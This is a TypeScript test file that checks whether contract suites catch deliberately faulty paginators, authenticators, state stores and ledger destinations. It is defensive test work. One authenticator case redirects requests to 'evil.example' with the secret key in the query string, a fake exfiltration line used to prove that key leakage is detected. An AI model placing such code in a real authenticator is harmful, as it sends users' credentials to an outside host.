import { type Authenticator, type Destination, reveal, Secret, type StateStore, type WindowState } from '@outlay/core'
import { describe, expect, it } from 'vitest'
import { authKit } from '../../../core/src/auth/auth-kit.js'
import { paginatorKit } from '../../../core/src/pagination/paginator-kit.js'
import { MemoryLedger as CoreLedger } from '../../../core/src/testing/memory-ledger.js'
import { collectTests, ruleOf } from '../testing/collect-tests.js'
import { authenticatorContract } from './authenticator-contract.js'
import { destinationContract } from './destination-contract.js'
import { paginatorContract } from './paginator-contract.js'
import { stateStoreContract } from './state-store-contract.js'
import type { TestFunctions } from './test-functions.js'

/** The rules that fail in a suite. */
async function failing(declareSuite: (functions: TestFunctions) => void): Promise<readonly string[]> {
  const tests = await collectTests(declareSuite)
  const failed = new Set<string>()
  for (const test of tests) {
    try {
      await test[1]()
    } catch {
      failed.add(ruleOf(test))
    }
  }
  return [...failed]
}

type Numbered = { readonly number: number; readonly size: number }
interface Body {
  readonly records: number
  readonly total: number
}
const good = paginatorKit<object, Body>().pageNumber({ size: 10, totalRecords: (b) => b.total })
const vendor = ({ number }: Numbered, total: number) => {
  const records = Math.max(0, Math.min(10, total - (number - 1) * 10))
  return { records, body: { records, total } }
}

describe('a paginator with one thing wrong', () => {
  let calls = 0
  it.each([
    [
      'stops one page early',
      'every-record',
      { ...good, next: (turn) => (turn.body.total - turn.page.number * 10 > 10 ? good.next(turn) : undefined) },
    ],
    ['never ends', 'every-record', { ...good, next: ({ page }) => ({ ...page, number: page.number + 1 }) }],
    [
      'counts on its own',
      'pure',
      {
        ...good,
        first: () => ({ number: 1, size: 10 }),
        next: (turn) => {
          calls += 1
          const next = good.next(turn)
          return next && { ...next, size: calls }
        },
      },
    ],
    [
      'knows too many pages ahead',
      'ahead',
      { ...good, ahead: (turn) => [...(good.ahead?.(turn) ?? []), { number: 99, size: 10 }] },
    ],
    ['states another total', 'stated', { ...good, stated: ({ total }) => ({ records: total + 1 }) }],
  ] satisfies readonly (readonly [string, string, typeof good])[])(
    'that %s is caught',
    async (_what, rule, paginator) => {
      expect(
        await failing((functions) => paginatorContract(paginator, { ...functions, config: {}, vendor })),
      ).toContain(rule)
    },
  )
})

type Config = { readonly key: Secret }
const [config, otherConfig] = [{ key: new Secret('canary-0123456789') }, { key: new Secret('another-9876543210') }]
const bearer = authKit<Config>().bearer((c) => c.key)

describe('an authenticator with one thing wrong', () => {
  it.each([
    ['adds nothing', 'added', { ...bearer, apply: (request) => request }],
    [
      'changes what comes in',
      'input-kept',
      {
        ...bearer,
        apply: (request, context) => {
          Object.assign(request.headers, { authorization: reveal(context.config.key) })
          return request
        },
      },
    ],
    [
      'leaves its origin',
      'origin-kept',
      {
        ...bearer,
        apply: (request, context) => ({ ...request, url: `https://evil.example/?key=${reveal(context.config.key)}` }),
      },
    ],
    [
      'puts the key behind #',
      'origin-kept',
      { ...bearer, apply: (request, context) => ({ ...request, url: `${request.url}#${reveal(context.config.key)}` }) },
    ],
    [
      'drops the query',
      'members-kept',
      {
        ...bearer,
        apply: (request, context) => bearer.apply({ ...request, url: request.url.replace(/\?.*/, '') }, context),
      },
    ],
    [
      'writes headers in capitals',
      'headers',
      {
        ...bearer,
        apply: (request, { config }) => ({
          ...request,
          headers: { ...request.headers, Authorization: reveal(config.key) },
        }),
      },
    ],
    [
      'knows one key only',
      'by-config',
      { ...bearer, apply: (request) => ({ ...request, headers: { ...request.headers, authorization: 'fixed' } }) },
    ],
    [
      'draws by chance',
      'reproducible',
      {
        ...bearer,
        apply: (request) => ({ ...request, headers: { ...request.headers, nonce: String(Math.random()) } }),
      },
    ],
    ['shows its key', 'described', { ...bearer, describe: (c) => reveal(c.key) }],
  ] satisfies readonly (readonly [string, string, Authenticator<Config>])[])(
    'that %s is caught',
    async (_what, rule, authenticator) => {
      const options = { config, otherConfig, secrets: ['canary-0123456789'] }
      expect(
        await failing((functions) => authenticatorContract(authenticator, { ...functions, ...options })),
      ).toContain(rule)
    },
  )
})

/** A store over a plain list, changed by a test. */
function listStore(change: Partial<StateStore> | ((states: WindowState[]) => Partial<StateStore>)): StateStore {
  const states: WindowState[] = []
  const same = (a: WindowState, b: WindowState): boolean =>
    a.connection === b.connection && a.endpoint === b.endpoint && a.partition === b.partition && a.start === b.start
  const store: StateStore = {
    load: async (connection) => states.filter((state) => state.connection === connection),
    save: async (entries) => {
      for (const entry of entries) {
        const place = states.findIndex((state) => same(state, entry))
        states.splice(place < 0 ? states.length : place, place < 0 ? 0 : 1, entry)
      }
    },
  }
  return { ...store, ...(typeof change === 'function' ? change(states) : change) }
}

describe('a state store with one thing wrong', () => {
  it.each([
    ['forgets', 'kept', () => listStore({ load: async () => [] })],
    [
      'keeps old state beside the new',
      'replaced',
      () => listStore((states) => ({ save: async (entries) => void states.push(...entries) })),
    ],
    ['gives everybody everything', 'connections', () => listStore((states) => ({ load: async () => [...states] }))],
    [
      'keeps the last window only',
      'apart',
      () =>
        listStore((states) => ({
          save: async (entries) => void states.splice(0, states.length, ...entries.slice(-1)),
        })),
    ],
    [
      'hands out its own list',
      'own-copy',
      () => listStore((states) => ({ load: async (connection) => (connection === 'main' ? states : []) })),
    ],
  ] satisfies readonly (readonly [string, string, () => StateStore])[])(
    'that %s is caught',
    async (_what, rule, make) => {
      expect(await failing((functions) => stateStoreContract(make, functions))).toContain(rule)
    },
  )
})

/** A ledger whose transactions are changed by a test. */
function ledger(change: (transaction: Awaited<ReturnType<Destination['begin']>>) => object): () => Destination {
  return () => {
    const good = new CoreLedger()
    const { begin } = good
    return Object.assign(good, {
      begin: async (context: Parameters<Destination['begin']>[0]) => {
        const transaction = await begin.call(good, context)
        return { ...transaction, ...change(transaction) }
      },
    })
  }
}

describe('a destination with one thing wrong', () => {
  it.each([
    ['adds and never replaces', 'replaced', ledger(() => ({ clear: async () => {} }))],
    ['keeps what was given up', 'invisible', ledger((transaction) => ({ abort: () => transaction.commit([]) }))],
    ['drops every row', 'visible', ledger(() => ({ write: async () => {} }))],
    [
      'clears all streams of a window',
      'streams',
      ledger(({ clear }) => ({
        clear: (...[window]: Parameters<typeof clear>) => clear(window, ['usage', 'other_usage']),
      })),
    ],
    [
      'rounds amounts',
      'exact',
      ledger(({ write }) => ({
        write: (...[window, rows]: Parameters<typeof write>) =>
          write(
            window,
            rows.map((row) => ({
              ...row,
              charge: row.charge && {
                ...row.charge,
                billed: row.charge.billed && {
                  ...row.charge.billed,
                  amount: Number(row.charge.billed.amount).toFixed(2),
                },
              },
            })),
          ),
      })),
    ],
    ['forgets state', 'state-with-rows', ledger(({ commit }) => ({ commit: () => commit([]) }))],
  ] satisfies readonly (readonly [string, string, () => Destination])[])(
    'that %s is caught',
    async (_what, rule, make) => {
      expect(await failing((functions) => destinationContract(make, functions))).toContain(rule)
    },
  )
})
